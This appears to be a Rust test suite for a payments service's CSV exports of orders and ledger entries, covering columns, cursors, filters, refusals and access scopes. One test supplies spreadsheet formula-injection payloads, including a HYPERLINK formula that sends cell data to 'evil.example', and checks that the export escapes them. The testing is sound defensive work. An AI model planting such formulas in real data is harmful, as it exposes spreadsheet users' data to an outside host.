//! Exports: orders and entries as files that bookkeepers open.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use service::keys::Scope;
use tests::world::GOOD_CARD;
use tests::{Answer, Customer, World, story};

use super::{capture, charge, charge_all, hold, with_sms};

/// A row, by the names of its columns.
type Row = BTreeMap<String, String>;

/// Rows of comma-separated values, as another program reads them.
fn rows(text: &str) -> Vec<Row> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.deserialize().map(|row| row.expect("a row of as many cells as columns")).collect()
}

fn text(answer: &Answer) -> String {
    String::from_utf8(answer.body.to_vec()).expect("UTF-8")
}

/// All parts of an export after one another, and how many there were.
async fn exported(world: &World, key: &str, path: &str) -> (String, usize) {
    let (mut whole, mut parts, mut next) = (String::new(), 0, path.to_owned());
    loop {
        let part = world.get_as(key, &next).await.expect(200);
        let header = if parts == 0 { "present" } else { "absent" };
        let media_type = format!("text/csv; charset=utf-8; header={header}");
        assert_eq!(part.header("content-type"), media_type);
        whole += &text(&part);
        parts += 1;
        assert!(parts < 100, "{path} has an end");
        match part.header("x-next-cursor").as_str() {
            "" => return (whole, parts),
            cursor => {
                let mark = if path.contains('?') { '&' } else { '?' };
                next = format!("{path}{mark}cursor={cursor}");
            }
        }
    }
}

/// The export of the story's customer.
async fn file(world: &World, path: &str) -> String {
    exported(world, &world.customer.key, path).await.0
}

/// A column of an export.
fn column(text: &str, name: &str) -> Vec<String> {
    rows(text).into_iter().map(|row| row[name].clone()).collect()
}

/// Seven orders in different states, and a journal with every kind of line.
async fn some_of_everything(world: &World) {
    drop(world.top_up("150.00", "wallet").await);
    with_sms(world).await;
    drop(world.transfer("voice", "20.00", "move").await.expect(201));
    let held = hold(world, "30.00", "hold").await.expect(201);
    drop(capture(world, &held, "0.004512", true, "capture").await.expect(201));
    drop(charge_all(world, &[("a", "sms", "0.01"), ("b", "voice", "0.02")]).await.expect(200));
    let yuan = world.order_offline("wallet", "CNY 720.00", "yuan").await.expect(201);
    drop(world.accept(&yuan, "CNY 719.00", "ICBC-1", "accept").await.expect(201));
    let dollars = world.order_offline("wallet", "USD 100.00", "dollars").await.expect(201);
    drop(world.report(&dollars, "REF-1").await.expect(200));
    let open = world.order("wallet", "10", "open").await.expect(201);
    drop(world.cancel(&open.text("order_id")).await.expect(200));
    drop(world.order("voice", "12", "another").await.expect(201));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_of_entries_says_what_the_list_says_a_row_a_line() {
    story(async |world| {
        some_of_everything(world).await;
        let first = world.get("/v1/entries.csv").await.expect(200);
        let named = "attachment; filename=\"entries-demo.csv\"";
        assert_eq!(first.header("content-disposition"), named);
        assert_eq!(first.header("x-content-type-options"), "nosniff");
        assert_ne!(first.header("x-request-id"), "");
        let whole = text(&first);
        let columns = "number,at,kind,document_id,place,currency,amount,balance_after,hash\r\n";
        assert!(whole.starts_with(columns), "{whole}");

        let listed = world.get("/v1/entries?limit=100").await.expect(200).json();
        let mut expected = Vec::new();
        for entry in listed["data"].as_array().unwrap() {
            for line in entry["lines"].as_array().unwrap() {
                let after = &entry["balances_after"][line["place"].as_str().unwrap()];
                let cells = [
                    ("number", &entry["number"]),
                    ("at", &entry["at"]),
                    ("kind", &entry["kind"]),
                    ("document_id", &entry["document_id"]),
                    ("place", &line["place"]),
                    ("currency", &line["currency"]),
                    ("amount", &line["amount"]),
                    ("balance_after", after),
                    ("hash", &entry["hash"]),
                ];
                expected.push(cells.map(|(name, cell)| (name.to_owned(), in_cell(cell))).into());
            }
        }
        assert_eq!(rows(&whole), expected);
        // Amounts are numbers, below zero too.
        assert!(whole.contains(",USD,-0.02,"), "{whole}");
        assert!(column(&whole, "amount").iter().all(|amount| !amount.starts_with('\'')));
    })
    .await;
}

/// What of an answer is in a cell.
fn in_cell(field: &Value) -> String {
    match field {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_of_orders_says_what_order_details_say() {
    story(async |world| {
        some_of_everything(world).await;
        let whole = file(world, "/v1/orders.csv").await;
        let listed = world.get("/v1/orders?limit=100").await.expect(200).json();
        let listed = listed["data"].as_array().unwrap();
        let rows = rows(&whole);
        assert_eq!(rows.len(), listed.len());
        for (row, order) in rows.iter().zip(listed) {
            for (name, cell) in row {
                let shown = match name.as_str() {
                    "reference_code" => &order["transfer_instructions"]["reference_code"],
                    "payer_name" | "bank_reference" | "paid_on" | "note" => {
                        &order["transfer_report"][name]
                    }
                    "metadata" => &Value::Null,
                    name => order.get(name).unwrap_or_else(|| panic!("no {name} in an order")),
                };
                assert_eq!(*cell, in_cell(shown), "{name}");
            }
        }
        let statuses = column(&whole, "status");
        for status in ["completed", "pending_review", "cancelled", "pending_payment"] {
            assert!(statuses.contains(&status.to_owned()), "{status} in {statuses:?}");
        }
        assert!(column(&whole, "payer_name").contains(&"Li Lei".to_owned()));
        assert!(column(&whole, "fx_rate").iter().any(|rate| !rate.is_empty()));
        // The operator gets the same file of any account.
        for list in ["orders", "entries"] {
            let path = format!("/v1/admin/accounts/demo/{list}.csv");
            let theirs = world.admin_get(&path).await.expect(200);
            assert_eq!(text(&theirs), file(world, &format!("/v1/{list}.csv")).await, "{list}");
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn words_that_a_spreadsheet_would_run_are_words() {
    story(async |world| {
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        let body = json!({
            "target": "wallet", "method": "card", "amount": "100.00",
            "email": "=cmd@evil.example",
            "metadata": {"=1+1": formula, "note": "two\nlines, and \"quotes\"; =1"},
        });
        drop(world.post("/v1/orders", "formula", &body).await.expect(201));
        for (number, name) in ["+SUM(A1)", "-2+3", "@SUM(A1)", "=1+1", "＝1+1"].iter().enumerate()
        {
            let key = format!("offline-{number}");
            let order = world.order_offline("wallet", "USD 100.00", &key).await.expect(201);
            let report = json!({
                "payer_name": name, "bank_reference": format!("=REF-{number}"),
                "paid_on": world.today(), "amount": "100.00", "note": "-1, not more",
            });
            drop(world.report_with(&order, &report).await.expect(200));
            let rejected = "@nobody: \"no\"";
            drop(world.reject(&order, rejected).await.expect(200));
        }
        let whole = file(world, "/v1/orders.csv").await;
        let rows = rows(&whole);
        for row in &rows {
            for (name, cell) in row {
                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']);
                assert!(!runs, "{name}: {cell}");
            }
        }
        let order = rows.last().unwrap();
        assert_eq!(order["email"], "'=cmd@evil.example");
        let words: Value = serde_json::from_str(&order["metadata"]).unwrap();
        assert_eq!(words, body["metadata"], "nothing of the words is lost");
        let names: Vec<_> =
            rows.iter().rev().skip(1).map(|row| row["payer_name"].as_str()).collect();
        assert_eq!(names, ["'+SUM(A1)", "'-2+3", "'@SUM(A1)", "'=1+1", "'＝1+1"]);
        assert_eq!(rows[0]["bank_reference"], "'=REF-4");
        assert_eq!(rows[0]["note"], "'-1, not more");
        assert_eq!(rows[0]["status_reason"], "'@nobody: \"no\"");
        // A negative amount is a number.
        with_sms(world).await;
        drop(charge(world, "sms", "5.00", "charge").await.expect(201));
        let amounts = column(&file(world, "/v1/entries.csv").await, "amount");
        assert!(amounts.contains(&"-5.00".to_owned()), "{amounts:?}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn parts_after_one_another_are_the_whole_each_row_once() {
    story(async |world| {
        some_of_everything(world).await;
        for (list, filter) in [
            ("orders", ""),
            ("orders", "&status=completed"),
            ("orders", "&method=card&target=wallet"),
            ("orders", "&status=refunded"),
            ("entries", ""),
            ("entries", "&balance=product:sms"),
            ("entries", "&balance=product:whatsapp"),
        ] {
            let whole = file(world, &format!("/v1/{list}.csv?limit=1000{filter}")).await;
            let id = if list == "orders" { "order_id" } else { "number" };
            let mut count = column(&whole, id);
            count.dedup();
            let count = count.len();
            for limit in [1, 2, 3, 7, count.max(1), count + 1] {
                let path = format!("/v1/{list}.csv?limit={limit}{filter}");
                let (parts, number) = exported(world, &world.customer.key, &path).await;
                assert_eq!(parts, whole, "{path}");
                // Every part but the last is full, and none is empty for nothing.
                assert_eq!(number, count.div_ceil(limit).max(1), "{path}");
            }
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_comes_meanwhile_disturbs_no_export() {
    story(async |world| {
        some_of_everything(world).await;
        for list in ["orders", "entries"] {
            let path = format!("/v1/{list}.csv");
            let before = file(world, &path).await;
            let first = world.get(&format!("{path}?limit=2")).await.expect(200);
            drop(world.top_up("33.00", list).await);
            let cursor = first.header("x-next-cursor");
            let rest = file_after(world, &path, &cursor).await;
            assert_eq!(text(&first) + &rest, before, "{list}");
        }
    })
    .await;
}

async fn file_after(world: &World, path: &str, cursor: &str) -> String {
    let rest = world.get(&format!("{path}?limit=1000&cursor={cursor}")).await.expect(200);
    assert_eq!(rest.header("x-next-cursor"), "");
    text(&rest)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_is_of_the_time_that_is_asked_for() {
    story(async |world| {
        some_of_everything(world).await;
        let whole = file(world, "/v1/entries.csv").await;
        let mut moments = column(&whole, "at");
        moments.dedup();
        let numbers = |from: Option<&String>, to: Option<&String>| {
            let within =
                |at: &String| from.is_none_or(|from| at >= from) && to.is_none_or(|to| at <= to);
            let rows = rows(&whole).into_iter().filter(|row| within(&row["at"]));
            rows.map(|row| row["number"].clone()).collect::<Vec<_>>()
        };
        for (from, to) in [
            (None, Some(&moments[2])),
            (Some(&moments[2]), None),
            (Some(&moments[4]), Some(&moments[1])),
            (Some(&moments[1]), Some(&moments[4])),
        ] {
            let asked = [("from", from), ("to", to)].into_iter();
            let asked = asked.filter_map(|(name, at)| Some(format!("{name}={}", at?)));
            let asked: Vec<_> = asked.collect();
            for limit in [1, 1_000] {
                let path = format!("/v1/entries.csv?limit={limit}&{}", asked.join("&"));
                let found = column(&file(world, &path).await, "number");
                assert_eq!(found, numbers(from, to), "{path}");
            }
        }
        let nothing = file(world, "/v1/entries.csv?to=2020-01-01T00:00:00Z").await;
        assert!(rows(&nothing).is_empty() && nothing.starts_with("number,"), "{nothing}");
        let none = file(world, "/v1/orders.csv?to=2020-01-01T00:00:00Z").await;
        assert!(rows(&none).is_empty() && none.starts_with("order_id,"), "{none}");
    })
    .await;
}

/// The refusal of an answer: `400 invalid_cursor cursor`.
fn refusal(answer: Answer) -> String {
    let (status, code) = (answer.status, answer.text("code"));
    let answer = answer.expect_problem(status, &code);
    format!("{status} {code} {}", answer.text("field"))
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_refuses_what_a_list_refuses() {
    story(async |world| {
        some_of_everything(world).await;
        for (asked, expected) in [
            ("limit=0", "422 invalid_parameter limit"),
            ("limit=1001", "422 invalid_parameter limit"),
            ("limit=70000", "422 invalid_parameter limit"),
            ("limit=abc", "422 invalid_parameter limit"),
            ("limit=1&limit=2", "422 invalid_parameter limit"),
            ("page=2", "422 unknown_field page"),
            ("from=yesterday", "422 invalid_parameter from"),
            ("to=", "422 invalid_parameter to"),
            ("cursor=", "400 invalid_cursor cursor"),
            ("cursor=x", "400 invalid_cursor cursor"),
        ] {
            for list in ["orders", "entries"] {
                let own = world.get(&format!("/v1/{list}.csv?{asked}")).await;
                assert_eq!(refusal(own), expected, "{list} {asked}");
                let path = format!("/v1/admin/accounts/demo/{list}.csv?{asked}");
                assert_eq!(refusal(world.admin_get(&path).await), expected, "{path}");
            }
        }
        for (path, expected) in [
            ("/v1/orders.csv?status=paid", "422 invalid_parameter status"),
            ("/v1/orders.csv?balance=wallet", "422 unknown_field balance"),
            ("/v1/entries.csv?balance=sms", "422 invalid_parameter balance"),
            ("/v1/entries.csv?status=completed", "422 unknown_field status"),
        ] {
            assert_eq!(refusal(world.get(path).await), expected, "{path}");
        }
        // Each needs what its list needs.
        for (list, scope) in [("orders", Scope::BalancesRead), ("entries", Scope::OrdersRead)] {
            let key = world.new_key(Some("demo"), &[scope], |key| key).await;
            let answer = world.get_as(&key, &format!("/v1/{list}.csv")).await;
            drop(answer.expect_problem(403, "missing_scope"));
        }
        let customer = world.get("/v1/admin/accounts/demo/orders.csv").await;
        drop(customer.expect_problem(403, "missing_scope"));
    })
    .await;
}

/// The cursor for the part after the first order or entry.
async fn cursor(world: &World, path: &str) -> String {
    let cursor = world.get(path).await.expect(200).header("x-next-cursor");
    assert_ne!(cursor, "", "{path} has a next part");
    cursor
}

/// A customer with two paid orders.
async fn somebody_else(world: &World) -> Customer {
    let other = world.new_customer("other").await;
    for key in ["one", "two"] {
        let body = tests::world::card_order("wallet", "99.00");
        let order = world.post_as(&other.key, "/v1/orders", key, &body).await.expect(201);
        drop(world.pay(&order, GOOD_CARD).await.expect(303));
    }
    other
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cursor_is_good_for_one_export_of_one_account_with_its_filters() {
    story(async |world| {
        some_of_everything(world).await;
        let other = somebody_else(world).await;
        for (list, column) in [("orders", "amount"), ("entries", "amount")] {
            let path = format!("/v1/{list}.csv");
            let theirs = exported(world, &other.key, &path).await.0;
            assert!(rows(&theirs).iter().all(|row| row[column].trim_start_matches('-') == "99.00"));
            assert!(!file(world, &path).await.contains("99.00"));
            let mine = cursor(world, &format!("{path}?limit=1")).await;
            let of_list = world.get(&format!("/v1/{list}?limit=1")).await.text("next_cursor");
            let filter = if list == "orders" { "method=card" } else { "balance=wallet" };
            let elsewhere = if list == "orders" { "entries" } else { "orders" };
            for path in [
                format!("/v1/{list}.csv?cursor={of_list}"),
                format!("/v1/{list}?cursor={mine}"),
                format!("/v1/{elsewhere}.csv?cursor={mine}"),
                format!("/v1/{list}.csv?{filter}&cursor={mine}"),
                format!("/v1/{list}.csv?to=2030-01-01T00:00:00Z&cursor={mine}"),
                format!("/v1/{list}.csv?cursor={mine}A"),
            ] {
                assert_eq!(refusal(world.get(&path).await), "400 invalid_cursor cursor", "{path}");
            }
            let stolen = world.get_as(&other.key, &format!("{path}?cursor={mine}")).await;
            assert_eq!(refusal(stolen), "400 invalid_cursor cursor");
            let path = format!("/v1/admin/accounts/other/{list}.csv?cursor={mine}");
            assert_eq!(refusal(world.admin_get(&path).await), "400 invalid_cursor cursor");
        }
    })
    .await;
}
